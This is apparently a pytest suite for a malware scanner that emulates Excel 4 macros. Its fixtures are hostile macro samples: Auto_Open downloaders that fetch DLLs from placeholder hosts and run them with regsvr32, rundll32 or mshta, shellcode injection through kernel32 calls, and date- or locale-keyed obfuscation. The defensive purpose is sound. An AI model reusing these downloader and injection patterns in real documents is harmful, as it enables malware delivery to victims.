"""Excel 4 macros, evaluated: small sheets, and what they must show. Expected values are Excel's, written by hand."""

from __future__ import annotations

from datetime import datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from emoscan.budget import Budget, LimitReached, Limits
from emoscan.evaluate.core.world import DEFAULT_NOW
from emoscan.evaluate.xlm.run import Program, Setting, evaluate
from emoscan.evaluate.xlm.values import Array, Ref, shown
from emoscan.model import Child, Fact, Yield
from emoscan.parse.bundle import XlmWorkbook
from emoscan.parse.workbook import Cell, Name, Sheet, Style, Workbook, from_a1

Cells = dict[str, Any]
LOOKS = (Style(), Style(size=20.0, color=3, horizontal=4, fill_pattern=1, fill_color=5))


def sheet(name: str, cells: Cells, type_: str = "macro", **more: Any) -> Sheet:
    made = []
    for place, value in cells.items():
        look = 0
        if isinstance(value, tuple):
            value, look = value
        formula = value[1:] if isinstance(value, str) and value.startswith("=") else ""
        made.append(Cell(*from_a1(place), None if formula else value, formula, look))
    return Sheet(name, type_, cells=tuple(made), **more)  # type: ignore[arg-type]


def book(cells: Cells, *others: Sheet, names: dict[str, str] | None = None, **more: Any) -> XlmWorkbook:
    found = {"Auto_Open": "M!$A$1"} | (names or {})
    return XlmWorkbook(Workbook((sheet("M", cells, **more), *others), tuple(Name(n, f) for n, f in found.items()), LOOKS))


def run(bundle: XlmWorkbook, now: datetime = DEFAULT_NOW, **limits: Any) -> list[Yield]:
    items: list[Yield] = []
    evaluate(bundle, Budget(Limits(**limits)), items.append, "invoice.xls", now)
    return items


def facts(items: list[Yield], kind: str) -> list[str]:
    return [item.value for item in items if isinstance(item, Fact) and item.kind == kind]


def value(formula: str, *others: Sheet, cells: Cells | None = None) -> Any:
    """What a formula gives in A1 of a macro sheet."""
    program = Program(book({"A1": "=" + formula, "A2": "=RETURN()"} | (cells or {}), *others), Budget(Limits()), "invoice.xls", DEFAULT_NOW)
    machine = program.run(Setting(DEFAULT_NOW), program.entries).machine
    found = machine.cell(program.grids[0], 1, 1)
    return found if not isinstance(found, (Array, Ref)) else repr(found)


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        ("1+2*3", 7.0),
        ("2^3^2", 64.0),
        ("-2^2", 4.0),
        ("50%", 0.5),
        ('"a"&1&TRUE', "a1TRUE"),
        ('"10"+5', 15.0),
        ('"a"="A"', True),
        ('1<"a"', True),
        ("CHAR(65)&CHAR(0.1+65.9)", "AB"),
        ("CHAR(128)", "€"),
        ('CODE("A")', 65.0),
        ('MID("regsvr32",4,3)', "svr"),
        ('LEFT("abc",2)&RIGHT("abc")', "abc"),
        ('SUBSTITUTE("a-b-c","-","")', "abc"),
        ('REPLACE("abcdef",2,3,"X")', "aXef"),
        ('REPT("ab",3)', "ababab"),
        ('CONCATENATE("a",1,"b")', "a1b"),
        ('SEARCH("win","Windows")', 1.0),
        ('ISNUMBER(SEARCH("32","x64"))', False),
        ('LEN("abc")', 3.0),
        ("LET(x,5,y,x+1,x*y)", 30.0),
        ('LAMBDA(a,b,a&b)("c","d")', "cd"),
        ("LET(f,LAMBDA(_xlpm.n,_xlpm.n*2),f(4))", 8.0),
        ("LET(f,LAMBDA(g,n,IF(n=0,1,n*g(g,n-1))),f(f,5))", 120.0),
        ("LET(f,LAMBDA(x,y,IF(ISOMITTED(y),x,y)),f(3))", 3.0),
        ("CONCAT(MAP({109,115},LAMBDA(v,CHAR(v))))", "ms"),
        ('REDUCE("",{109;115},LAMBDA(a,b,a&CHAR(b)))', "ms"),
        ('TEXTJOIN("",TRUE,LET(x,{108,114},CHAR(x+1)))', "ms"),
        ("INDEX(SCAN(0,{1,2,3},LAMBDA(a,b,a+b)),3)", 6.0),
        ("SUM(MAKEARRAY(2,2,LAMBDA(r,c,r*10+c)))", 66.0),
        ("SUM(BYROW({1,2;3,4},LAMBDA(r,SUM(r))))", 10.0),
        ("INDEX(WRAPROWS({1,2,3,4},2),2,1)", 3.0),
        ("CONCAT(DROP(TAKE({1,2,3,4},1,3),0,1))", "23"),
        ("CONCAT(VSTACK({1,2},HSTACK(3,4)))", "1234"),
        ('CONCAT(SORTBY({"b","a"},{2,1}))', "ab"),
        ("SUM(MMULT({1,2},{3;4}))", 11.0),
        ('TEXTBEFORE("a-b-c","-",2)&TEXTAFTER("a-b-c","-",-1)', "a-bc"),
        ('CONCAT(TEXTSPLIT("msxhxta","x"))', "mshta"),
        ('INDEX(TEXTSPLIT("a,b;c",",",";"),1,2)', "b"),
        # Dates: values of Microsoft's reference.
        ("NETWORKDAYS(DATE(2012,10,1),DATE(2013,3,1))", 110.0),
        ('NETWORKDAYS.INTL(DATE(2006,1,1),DATE(2006,2,1),"0010001",{"2006/1/2","2006/1/16"})', 20.0),
        ("WORKDAY(DATE(2008,10,1),151)", 39933.0),
        ("WORKDAY.INTL(DATE(2012,1,1),90,11)", 41013.0),
        ('DAYS("15-MAR-2021","1-FEB-2021")', 42.0),
        ("DAYS360(DATE(2011,1,30),DATE(2011,2,1))", 1.0),
        ("ROUND(YEARFRAC(DATE(2012,1,1),DATE(2012,7,30),1),8)", 0.57650273),
        ('DATEDIF(DATE(2001,6,1),DATE(2002,8,15),"YD")', 75.0),
        ("ISOWEEKNUM(DATE(2012,3,9))", 10.0),
        ('DATEVALUE("4/9/1900")', 100.0),
        ('TEXT(0,"""dash""")&TEXT(7,"0""%d""")&TEXT(44197,"""day ""d")', "dash7%dday 1"),
        ("COUNTIF(1,#REF!)&COUNTIF(1,{1,2})", "01"),
        ("ISERROR(EDATE(1,#REF!))", True),
        ('UPPER("abc")&LOWER("ABC")&PROPER("ab cd")', "ABCabcAb Cd"),
        ('TRIM("  a  b ")', "a b"),
        ('EXACT("a","A")', False),
        ('TEXT(0.5,"0.00")', "0.50"),
        ('TEXT(44000,"yyyy-mm-dd")', "2020-06-18"),
        ('VALUE("12.5")', 12.5),
        ("INT(-1.5)", -2.0),
        ("ROUND(2.5,0)", 3.0),
        ("MOD(-1,3)", 2.0),
        ("SUM(1,2,3)", 6.0),
        ("SUM(C1:C3)", 6.0),
        ("AVERAGE(C1:C3)", 2.0),
        ('COUNTIF(C1:C3,">1")', 2.0),
        ("INDEX(C1:C3,2)", 2.0),
        ("INDEX({10,20;30,40},2,1)", 30.0),
        ("MATCH(2,C1:C3,0)", 2.0),
        ("VLOOKUP(2,C1:D3,2,FALSE)", "two"),
        ("OFFSET(C1,1,1)", "two"),
        ('INDIRECT("C"&3)', 3.0),
        ('INDIRECT("R1C3",FALSE)', 1.0),
        ('CHOOSE(2,"a","b")', "b"),
        ('IF(1>2,"a","b")', "b"),
        ('IFERROR(1/0,"e")', "e"),
        ("ISERROR(1/0)", True),
        ("AND(TRUE,1)", True),
        ("OR(FALSE,0)", False),
        ("NOT(FALSE)", True),
        ('HEX2DEC("FF")', 255.0),
        ("DEC2HEX(255)", "FF"),
        ("DATE(2021,1,20)", 44216.0),
        ("DAY(44216)", 20.0),
        ("WEEKDAY(44216)", 4.0),
        ("ROW()", 1.0),
        ("ROWS(C1:C3)", 3.0),
        ("ADDRESS(2,3)", "$C$2"),
        ("GET.CELL(2,C3)", 3.0),
        ("GET.CELL(8,E1)", 4.0),
        ("GET.CELL(19,E1)", 20.0),
        ("GET.CELL(24,E1)", 3.0),
        ("GET.CELL(63,E1)", 5.0),
        ("GET.CELL(17,E9)", 5.0),
        ("GET.CELL(6,F1)", "=1+1"),
        ("GET.FORMULA(F1)", "=1+1"),
        ("GET.WORKSPACE(19)", True),
        ("GET.WINDOW(7)", False),
        ("GET.DOCUMENT(88)", "invoice.xls"),
        ("REFTEXT(C1)", "M!R1C3"),
        ('EVALUATE("1+1")', 2.0),
        ("LEFT(GET.WORKSPACE(1),7)", "Windows"),
        ("Data!A1", "hidden"),
        ("Data!B1", 12.0),
        ("RANK(2,C1:C3)&RANK(2,{1,2,4,8},1)&MODE(1,2,2)&STDEVP(2,4)&VARP(2,4)&DEVSQ(1,3)", "222112"),
        ("GEOMEAN(2,8)&HARMEAN(2,2)&AVEDEV(1,3)&PERCENTILE(C1:C3,0.5)&QUARTILE(C1:C3,2)", "42122"),
        ('COUNTIFS(C1:C3,">1",D1:D3,"t*")&SUMIFS(C1:C3,D1:D3,"t*")&AVERAGEIF(C1:C3,">1")&MAXIFS(C1:C3,C1:C3,"<3")', "252.52"),
        ("AVERAGEA(2,4)&MAXA(C1:D1)&MINA(TRUE,7)&SUMX2PY2({1,2},{3,4})&SUMXMY2({1},{4})&SUMX2MY2({3},{2})", "3113095"),
        ("ROUND(PMT(0.1,2,100),4)&ROUND(FV(0.1,2,-10),2)&PV(0,3,-5)&SLN(10,4,3)&ROUND(NPV(0.5,3,9),4)", "-57.619211526"),
        ('HEX2BIN("B",6)&HEX2OCT("1F")&BIN2HEX(11111011)&OCT2BIN(7)&OCT2HEX(100)&BIN2OCT(1001)', "00101137FB1114011"),
        ('ARABIC("MCMXC")&LCM(4,6)&PERMUT(4,2)&COMBINA(3,2)&FACTDOUBLE(5)&DELTA(1,1)&GESTEP(1,2)', "1990121261510"),
        ('ASC("ｃａ！")&JIS("ab")&ENCODEURL("a b/c")&SHEETS()&SHEET("Data")', "ca!ａｂa%20b%2Fc22"),
        ('XLOOKUP(2,C1:C3,D1:D3)&XLOOKUP(9,C1:C3,D1:D3,"none")&FORMULATEXT(F1)&ISFORMULA(C1)&INDEX(SEQUENCE(2,2,5,5),2,1)', "twonone=1+1FALSE15"),
    ],
)  # fmt: skip
def test_formulas(formula: str, expected: Any) -> None:
    cells: Cells = {"C1": 1.0, "C2": 2.0, "C3": 3.0, "D1": "one", "D2": "two", "D3": "three", "E1": ("x", 1), "F1": "=1+1"}
    bundle = book(
        {"A1": "=" + formula, "A2": "=RETURN()"} | cells,
        sheet("Data", {"A1": "hidden", "B1": "=A2*2", "A2": 6.0}, "worksheet"),
        row_heights={9: 5.1},
    )
    program = Program(bundle, Budget(Limits()), "invoice.xls", DEFAULT_NOW)
    machine = program.run(Setting(DEFAULT_NOW), program.entries).machine
    assert machine.cell(program.grids[0], 1, 1) == expected


def test_chain_of_downloads() -> None:
    """Each address is tried when the one before failed; all are named, in their order, and the program as well."""
    cells = {
        "A1": '=FORMULA("=CALL(""urlmon"",""URLDownloadToFileA"",""JJCCJJ"",0,""http://one.example.test/a/"",""..\\x.ocx"",0,0)",A3)',
        "A2": '=FORMULA("=IF(A3<0,CALL(""urlmon"",""URLDownloadToFileA"",""JJCCJJ"",0,""http://two.example.test/b/"",""..\\x.ocx"",0,0))",A4)',
        "A5": '=IF(A4<0,CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://three.example.test/c/","..\\x.ocx",0,0))',
        "A6": "=IF(A5<0,CLOSE(0),)",
        "A7": '=EXEC("C:\\Windows\\SysWow64\\regsvr32.exe ..\\x.ocx")',
        "A8": "=RETURN()",
    }
    items = run(book(cells))
    assert facts(items, "effect.download") == [f"http://{n}.example.test/{p}/" for n, p in (("one", "a"), ("two", "b"), ("three", "c"))]
    assert facts(items, "effect.run") == ["C:\\Windows\\SysWow64\\regsvr32.exe ..\\x.ocx"]
    assert facts(items, "xlm.entry") == ["Auto_Open"]
    listing = next(item.data.decode() for item in items if isinstance(item, Child) and item.how == "simplified")
    assert "M!A7 =EXEC(" in listing


def test_registered_function() -> None:
    cells = {
        "A1": '=REGISTER("uRlMon","URLDownloadToFileA","JJCCBB","Byidert",1,9)',
        "A2": '=Byidert(0,"http://192.0.2.1/"&B1&".dat","C:\\a.dll",0,0)',
        "A3": "=HALT()",
        "B1": 44694.5,
    }
    items = run(book(cells))
    assert facts(items, "effect.download") == ["http://192.0.2.1/44694.5.dat"]
    assert facts(items, "xlm.register") == ["uRlMon!URLDownloadToFileA"]


def test_day_key() -> None:
    """Characters are right on one day only; the day is found and named."""
    command = "calc.exe"
    joined = "&".join(f"CHAR({ord(c) - 7}+C1)" for c in command)
    cells = {"A1": "=SET.VALUE(C1,DAY(NOW()))", "A2": f'=FORMULA("=EXE"&CHAR(60+C1)&"("""&{joined}&""")",A3)', "A4": "=HALT()"}
    items = run(book(cells))
    assert facts(items, "effect.run") == ["calc.exe"]
    assert facts(items, "xlm.key") == ["day 7 of the month, Thursday"]


def test_blocks_and_loops() -> None:
    cells = {
        "A1": '=SET.NAME("text","")',
        "A2": '=FOR("i",1,3)',
        "A3": "=IF(i=2)",
        "A4": '=SET.NAME("text",text&"two ")',
        "A5": "=ELSE()",
        "A6": '=SET.NAME("text",text&i&" ")',
        "A7": "=END.IF()",
        "A8": "=NEXT()",
        "A9": '=FOR.CELL("c",C1:C3,TRUE)',
        "A10": '=SET.NAME("text",text&c)',
        "A11": "=NEXT()",
        "A12": '=SET.NAME("n",0)',
        "A13": "=WHILE(n<3)",
        "A14": '=SET.NAME("n",n+1)',
        "A15": "=NEXT()",
        "A16": '=EXEC("cmd /c "&text&n)',
        "A17": "=GOTO(A19)",
        "A18": '=EXEC("never")',
        "A19": "=HALT()",
        "C1": "x",
        "C3": "y",
    }
    assert facts(run(book(cells)), "effect.run") == ["cmd /c 1 two 3 xy3"]


def test_subroutines() -> None:
    cells = {
        "A1": "=RUN(B1)",
        "A2": '=EXEC(Add("a","b"))',
        "A3": "=HALT()",
        "B1": '=SET.NAME("word","w")',
        "B2": "=RETURN()",
        "D1": '=ARGUMENT("one")',
        "D2": '=ARGUMENT("two")',
        "D3": "=RETURN(one&two&word)",
    }
    assert facts(run(book(cells, names={"Add": "M!$D$1"})), "effect.run") == ["abw"]


def test_files_and_timers() -> None:
    cells = {
        "A1": '=FOPEN("C:\\Users\\Public\\a.vbs",3)',
        "A2": '=FWRITELN(A1,"WScript.Echo 1")',
        "A3": "=FCLOSE(A1)",
        "A4": '=ON.TIME(NOW()+"00:00:02","later")',
        "A5": "=HALT()",
        "B1": '=EXEC("wscript C:\\Users\\Public\\a.vbs")',
        "B2": "=HALT()",
    }
    items = run(book(cells, names={"later": "M!$B$1"}))
    assert facts(items, "effect.run") == ["wscript C:\\Users\\Public\\a.vbs"]
    assert facts(items, "effect.write") == ["C:\\Users\\Public\\a.vbs"]
    assert any(isinstance(item, Child) and item.data == b"WScript.Echo 1\r\n" for item in items)


def test_guards_are_turned() -> None:
    cells = {"A1": '=IF(GET.WORKSPACE(2)="9.0",,CLOSE(FALSE))', "A2": '=EXEC("calc")', "A3": "=HALT()"}
    items = run(book(cells))
    assert [(item.value, item.confidence) for item in items if isinstance(item, Fact) and item.kind == "effect.run"] == [("calc", 0.8)]


def test_every_way_of_chance() -> None:
    one = '"http://a.example.test/","http://b.example.test/","http://c.example.test/"'
    cells = {"A1": f'=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,CHOOSE(RANDBETWEEN(1,3),{one}),"C:\\a",0,0)', "A2": "=HALT()"}
    assert sorted(facts(run(book(cells)), "effect.download")) == [f"http://{n}.example.test/" for n in "abc"]


@pytest.mark.parametrize(
    "cells",
    [
        {"A1": "=SELECT(C1)", "A2": '=SET.NAME("s","")', "A3": '=WHILE(ACTIVE.CELL()<>"END")', "A4": '=SET.NAME("s",s&ACTIVE.CELL())',
         "A5": '=SELECT("R[1]C")', "A6": "=NEXT()", "A7": "=EXEC(s)", "A8": "=HALT()", "C1": "ca", "C2": "lc", "C3": "END"},
        {"A1": '=FORMULA("=EXEC(R1C3&R[0]C[1])",A3)', "A4": "=HALT()", "C1": "ca", "B3": "lc"},
        {"A1": '=FORMULA(CHAR(61)&"EXEC("&CHAR(34)&INDIRECT("C"&1)&INDIRECT("R2C3",FALSE)&CHAR(34)&")",A5)', "A6": "=HALT()", "C1": "ca", "C2": "lc"},
        {"A1": '=GOTO(INDIRECT("R"&(2+3)&"C1",FALSE))', "A2": "=HALT()", "A5": '=EXEC("calc")', "A6": "=HALT()"},
        {"A1": '=EXEC(SUBSTITUTE("cXaXlXc","X",""))', "A2": "=HALT()"},
        {"A1": '=FORMULA.ARRAY("=EXEC(""calc"")",A3)', "A2": "=ERROR(FALSE)", "A4": "=HALT()"},
        {"A1": '=DEFINE.NAME("n","=R1C3")', "A2": "=EXEC(n)", "A3": "=HALT()", "C1": "calc"},
        {"A1": '=EVALUATE("EXEC(""calc"")")', "A2": "=HALT()"},
        {"A1": '=CALL("kernel32","WinExec","JCJ","calc",0)', "A2": "=HALT()"},
        {"A1": '=IF(HOUR(NOW())=23,EXEC("calc"),HALT())', "A2": "=HALT()"},
        {"A1": '=IF(INDEX(GET.WORKSPACE(37),1)=39,EXEC("calc"),CLOSE(0))', "A2": "=HALT()"},
    ],
)  # fmt: skip
def test_ways_to_a_command(cells: Cells) -> None:
    assert facts(run(book(cells)), "effect.run") == ["calc"]


@pytest.mark.parametrize(
    "cells",
    [
        {"A1": "=B1()", "A2": "=HALT()", "B1": '=EXEC("calc")', "B2": "=RETURN()"},
        {"A1": '=$B$1("ca","lc")', "A2": "=HALT()", "B1": '=ARGUMENT("x")', "B2": '=ARGUMENT("y")', "B3": "=EXEC(x&y)", "B4": "=RETURN()"},
        {"A1": '=REGISTER("kernel32","WinExec","JCJ")', "A2": '=A1("calc",0)', "A3": "=HALT()"},
        {"A1": "=ERROR(TRUE,B1)", "A2": '=GOTO("nowhere")', "A3": "=HALT()", "B1": '=EXEC("calc")', "B2": "=HALT()"},
        {"A1": "=SELECT(C1:C9)", "A2": '=FORMULA.FIND("key",2,1)', "A3": "=EXEC(OFFSET(ACTIVE.CELL(),0,1))", "A4": "=HALT()", "C4": "key", "D4": "calc"},
        {"A1": '=NOTE("cXXc",C1)', "A2": '=NOTE("al",C1,2,2)', "A3": "=EXEC(GET.NOTE(C1))", "A4": "=HALT()"},
        {"A1": '=FORMULA("=EXEC(""ca""&C1)",A2)', "A3": "=HALT()", "C1": "lc"},
        {"A1": '=FOR("i",1,9)', "A2": "=IF(INDEX(C1:C9,i)=0,BREAK())", "A3": "=NEXT()", "A4": "=EXEC(INDEX(D1:D9,i))", "A5": "=HALT()", "C1": 5.0, "C2": 0.0, "D2": "calc"},
        {"A1": "=EXEC(_xlfn.CONCAT(CHAR(C1:C4)))", "A2": "=HALT()", "C1": 99.0, "C2": 97.0, "C3": 108.0, "C4": 99.0},
        {"A1": '=FORMULA.ARRAY("=EXEC(INDEX(CHAR(R1C3:R4C3+1),1)&""al""&INDEX(CHAR(R1C3:R4C3),4))",A2)', "A3": "=HALT()", "C1": 98.0, "C4": 99.0},
        {"A1": '=EXEC(CHAR(SUMPRODUCT(C1:C2*D1:D2))&"alc")', "A2": "=HALT()", "C1": 9.0, "C2": 9.0, "D1": 10.0, "D2": 1.0},
        {"A1": '=MAIL.LOGON("x")', "A2": "=FORMAT.MAIN?(1)", "A3": '=EXEC("calc")', "A4": "=HALT()"},
    ],
)  # fmt: skip
def test_more_ways_to_a_command(cells: Cells) -> None:
    items = run(book(cells))
    assert (facts(items, "effect.run"), facts(items, "eval.unmodelled")) == (["calc"], [])


def test_functions_of_a_library_of_its_own() -> None:
    cells = {
        "A1": '=CALL("C:\\Users\\Public\\x.dll","Start","J")',
        "A2": '=FORMULA(WEBSERVICE("http://files.example.test/a"),B1)',
        "A3": "=HALT()",
    }
    items = run(book(cells))
    assert facts(items, "effect.load") == [r"C:\Users\Public\x.dll"]
    assert facts(items, "effect.download") == ["http://files.example.test/a"]


def test_sheets_are_calculated_again() -> None:
    cells = {"A1": '=SET.VALUE(Data!A1,"ca")', "A2": "=EXEC(Data!B1)", "A3": "=HALT()"}
    assert facts(run(book(cells, sheet("Data", {"B1": '=A1&"lc"'}, "worksheet"))), "effect.run") == ["calc"]


def test_waiting_ends() -> None:
    cells = {
        "A1": '=WHILE(ISERROR(FILES("C:\\nowhere\\a.txt")))',
        "A2": "=WAIT(NOW()+1)",
        "A3": "=NEXT()",
        "A4": '=IF(ISERROR(FILES("C:\\nowhere\\a.txt")),GOTO(A1),)',
        "A5": '=EXEC("calc")',
        "A6": "=HALT()",
    }
    assert facts(run(book(cells)), "effect.run") == ["calc"]


def test_nothing_leads_there() -> None:
    bundle = XlmWorkbook(Workbook((sheet("M", {"C5": '=EXEC("calc")', "C6": "=HALT()"}),), (), LOOKS))
    items = run(bundle)
    assert [(item.value, item.confidence) for item in items if isinstance(item, Fact) and item.kind == "effect.run"] == [("calc", 0.5)]


def test_shellcode() -> None:
    """Bytes that are copied into memory and started come out as an artifact."""
    cells = {
        "A1": '=CALL("kernel32","VirtualAlloc","JJJJJ",0,4096,4096,64)',
        "A2": '=CALL("kernel32","WriteProcessMemory","JJJCJJ",-1,A1,REPT(CHAR(144),60)&"shell",65,0)',
        "A3": '=CALL("kernel32","CreateThread","JJJJJJJ",0,0,A1,0,0,0)',
        "A4": "=HALT()",
    }
    items = run(book(cells))
    assert facts(items, "effect.load")
    assert any(isinstance(item, Child) and item.data.startswith(b"\x90" * 60 + b"shell") for item in items)


def test_shellcode_at_an_address_of_its_choice() -> None:
    cells = {
        "A1": '=CALL("kernel32","VirtualAlloc","JJJJJ",1342439424,4096,12288,64)',
        "A2": '=CALL("kernel32","RtlCopyMemory","JJCJ",1342439424,REPT(CHAR(144),40),40)',
        "A3": '=CALL("kernel32","RtlCopyMemory","JJCJ",1342439464,"second piece",12)',
        "A4": '=CALL("kernel32","QueueUserAPC","JJJJ",1342439424,-2,0)',
        "A5": "=HALT()",
    }
    items = run(book(cells))
    assert any(isinstance(item, Child) and item.data.startswith(b"\x90" * 40 + b"second piece") for item in items)


def test_operations_end() -> None:
    cells = {"A1": '=SET.NAME("n",1)', "A2": '=SET.NAME("n",n+1)', "A3": "=GOTO(A2)"}
    with pytest.raises(LimitReached):
        run(book(cells), operations=20_000)


def test_what_showed_before_the_stop_is_kept() -> None:
    cells = {
        "A1": "=IF(DAY(NOW())=7,GOTO(B1),HALT())",
        "B1": '=EXEC("calc")',
        "B2": '=SET.NAME("n",1)',
        "B3": '=SET.NAME("n",n+1)',
        "B4": "=GOTO(B3)",
    }
    items: list[Yield] = []
    with pytest.raises(LimitReached):
        evaluate(book(cells), Budget(Limits(operations=10_000)), items.append)
    assert facts(items, "effect.run") == ["calc"]


WORDS = st.sampled_from(
    'A1 B2 $C$3 A1:B2 M!A1 x 1 2.5 "a" TRUE {1,2} R1C1 R[1]C Nobody!A1 #REF!'.split()
    + "CHAR MID RUN GOTO FORMULA IF WHILE NEXT FOR SET.NAME EXEC CALL REGISTER INDEX OFFSET INDIRECT GET.CELL SELECT FOPEN FWRITE RETURN HALT".split()
)  # fmt: skip


@st.composite
def formula(draw: st.DrawFn) -> str:
    """Something like a formula, often a broken one."""
    return "=" + "".join(draw(st.lists(st.one_of(WORDS, st.sampled_from(list("()+-*/&,=<> ^:%"))), min_size=1, max_size=12)))


@st.composite
def calls(draw: st.DrawFn) -> str:
    head = draw(st.sampled_from(sorted(__import__("emoscan.evaluate.xlm.library", fromlist=["x"]).FUNCTIONS) or ["EXEC"]))
    arguments = draw(
        st.lists(st.sampled_from(["A1", '"B2"', "1", '"text"', "-1", "A1:B3", "", "{1,2;3,4}", "1/0", "CHAR(65)", "1E+300"]), max_size=6)
    )
    return f"={head}({','.join(arguments)})"


@settings(max_examples=120, deadline=None)
@given(
    st.lists(st.one_of(formula(), calls(), st.floats(allow_nan=False, allow_infinity=False), st.text(max_size=5)), min_size=1, max_size=12)
)
def test_any_sheet(lines: list[Any]) -> None:
    """No sheet raises anything but a limit, and all show the same twice."""
    bundle = book({f"{'AB'[n % 2]}{n // 2 + 1}": line for n, line in enumerate(lines) if line != ""}, names={"x": "M!$B$1"})
    results = []
    for _ in range(2):
        items: list[Yield] = []
        try:
            evaluate(bundle, Budget(Limits(operations=100_000)), items.append)
        except LimitReached as limit:
            items.append(Fact("limit", limit.name))
        results.append(items)
    assert results[0] == results[1]


def test_shown() -> None:
    assert [shown(v) for v in (1.0, 'a"b', True, None, 0.1)] == ["1", '"a""b"', "TRUE", "", "0.1"]


def test_functions_by_number_show_by_what_they_are_given() -> None:
    items = run(
        book(
            {
                "A1": '=CALL("urlmon",105,"JJCCJJ",0,"http://a.example.test/x.dll","C:\\a.dll",0,0)',
                "A2": '=REGISTER("C:\\Windows\\System32\\shell32.dll",299,"JJCCCCJ","Run1",,1,9)',
                "A3": '=Run1(0,"open","rundll32","C:\\a.dll,x","",0)',
                "A4": '=CALL("ws2_32",115,"JJJ",2,0)',
                "A5": '=CALL("Kernel32",777,"JC","odd")',
                "A6": "=HALT()",
            }
        )
    )
    assert facts(items, "effect.download") == ["http://a.example.test/x.dll"]
    assert facts(items, "effect.run") == ["rundll32 C:\\a.dll,x"]
    assert "ws2_32!WSAStartup" in facts(items, "xlm.register")
    assert facts(items, "eval.unmodelled") == ["Kernel32!#777"]


def test_the_active_cell_moves_within_the_selection() -> None:
    cells = {
        "A1": "=SELECT(C1:C9)",
        "A2": '=WHILE(ACTIVE.CELL()<>"END")',
        "A3": "=SET.VALUE(D1,D1&ACTIVE.CELL())",
        "A4": '=SELECT(,"R[1]C")',
        "A5": "=NEXT()",
        "A6": "=EXEC(D1&ROWS(SELECTION()))",
        "A7": '=SELECT(C1:C4,"R[2]C")',
        "A8": "=EXEC(ACTIVE.CELL())",
        "A9": '=FORMULA("typed")',
        "A10": "=EXEC(C3)",
        "A11": "=HALT()",
        "C1": "ca",
        "C2": "lc",
        "C3": "third",
        "C4": "end",
    }
    assert facts(run(book(cells)), "effect.run") == ["calcthird9", "third", "typed"]


def test_files_fetched_by_other_programs() -> None:
    lines = ["open files.example.test", "user a b", "get x.exe C:\\Users\\Public\\x.exe", "!calc", "bye"]
    cells = {"A1": '=FOPEN("C:\\Users\\Public\\f.txt",3)'}
    cells |= {f"A{number}": f'=FWRITELN(A1,"{line}")' for number, line in enumerate(lines, 2)}
    cells |= {
        "A7": "=FCLOSE(A1)",
        "A8": '=EXEC("cmd /c ftp -n -s:C:\\Users\\Public\\f.txt")',
        "A9": '=CALL("INSENG.DLL","DownloadFile","JCCJ","http://files.example.test/y.exe","C:\\y.exe",1)',
        "A10": "=HALT()",
    }
    items = run(book(cells))
    assert facts(items, "effect.download") == ["ftp://files.example.test/x.exe", "http://files.example.test/y.exe"]
    assert "calc" in facts(items, "effect.run")


@pytest.mark.parametrize(
    ("key", "shift"), [("DAY(NOW())", 19), ("DAY(NOW())", 22), ("MONTH(TODAY())", 3), ("INDEX(GET.WORKSPACE(37),1)", 39)]
)
def test_commands_locked_to_a_date_or_a_country(key: str, shift: int) -> None:
    """With a key that is nearly right, a command is printable as well; it is none nevertheless."""
    command = "mshta http://a.example.test/x.hta"
    cells: Cells = {
        "A1": '=FOR.CELL("c",C1:C33)',
        "A2": f"=SET.VALUE(D1,D1&CHAR(c-{key}))",
        "A3": "=NEXT()",
        "A4": "=EXEC(D1)",
        "A5": "=HALT()",
    }
    cells |= {f"C{number}": float(ord(c) + shift) for number, c in enumerate(command, 1)}
    items = run(book(cells))
    assert command in facts(items, "effect.run")
    assert facts(items, "xlm.key")


@pytest.mark.parametrize(
    "busy",
    [
        {"A1": '=FOR("i",1,100000)', "A2": "=SET.VALUE(B1,i*2)", "A3": "=NEXT()"},
        {"A1": "=WHILE(TRUE)", "A2": '=SET.VALUE(B1,B1&"x")', "A3": "=NEXT()"},
        {"A1": "=SET.VALUE(B1,B1+1)", "A2": "=IF(B1<999999,GOTO(A1))"},
        {"A1": "=SET.VALUE(B1,LET(f,LAMBDA(g,n,g(g,n)+g(g,n)),f(f,1)))"},
        {"A1": '=SET.VALUE(B1,REDUCE("a",SEQUENCE(60),LAMBDA(a,b,a&a)))'},
    ],
)
def test_what_comes_behind_work_without_end(busy: Cells) -> None:
    assert "calc" in facts(run(book(busy | {"A9": '=EXEC("calc")', "A10": "=HALT()"})), "effect.run")


def test_the_first_value_of_an_array_decides_what_is_done() -> None:
    cells = {"A1": "=IF(GET.WORKSPACE(37)=81,GOTO(A3),CLOSE(FALSE))", "A2": '=EXEC("no")', "A3": '=EXEC("yes")', "A4": "=HALT()"}
    assert facts(run(book(cells)), "effect.run") == ["yes"]


def test_a_fraction_by_chance_reaches_every_part() -> None:
    cells = {"A1": "=INDEX(C1:C3,INT(RAND()*3)+1)", "A2": "=EXEC(A1)", "A3": "=HALT()", "C1": "calc 1", "C2": "calc 2", "C3": "calc 3"}
    assert sorted(facts(run(book(cells)), "effect.run")) == ["calc 1", "calc 2", "calc 3"]
